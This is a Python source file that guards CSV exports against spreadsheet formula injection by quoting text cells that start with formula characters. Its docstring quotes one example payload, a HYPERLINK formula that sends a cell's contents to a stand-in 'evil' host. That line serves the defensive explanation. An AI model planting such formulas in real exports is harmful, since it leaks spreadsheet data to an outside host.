"""CSV exports that a spreadsheet opens as data, never as formulas.

Sub-id values, names and dimensions come from the public (a click's query
string): a cell such as ``=HYPERLINK("https://evil/?"&A1,"x")`` would run in
Excel, LibreOffice or Google Sheets. Every text cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe (the
spreadsheet convention for "this is text"); plain numbers (``-12.50``) stay as
they are.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number (a negative profit or ROI): not a formula, left alone.
_NUMBER = re.compile(r"-?[0-9]{1,40}(?:\.[0-9]{1,40})?")


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet should show it: text starting like a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and _NUMBER.fullmatch(value) is None:
        return "'" + value
    return value


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeWriter:
    """A csv.writer whose every cell goes through ``safe_cell``."""

    def __init__(self, writer: _Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
